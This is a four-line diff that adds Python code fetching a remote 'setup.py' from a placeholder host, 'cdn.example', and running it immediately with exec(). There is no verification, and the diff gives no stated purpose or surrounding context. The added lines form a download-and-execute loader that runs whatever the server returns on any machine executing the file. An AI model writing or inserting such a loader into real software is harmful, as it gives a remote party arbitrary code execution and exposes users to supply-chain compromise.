@@ -1,0 +1,4 @@
+from urllib.request import urlopen
+
+code = urlopen("https://cdn.example/setup.py").read()
+exec(code)
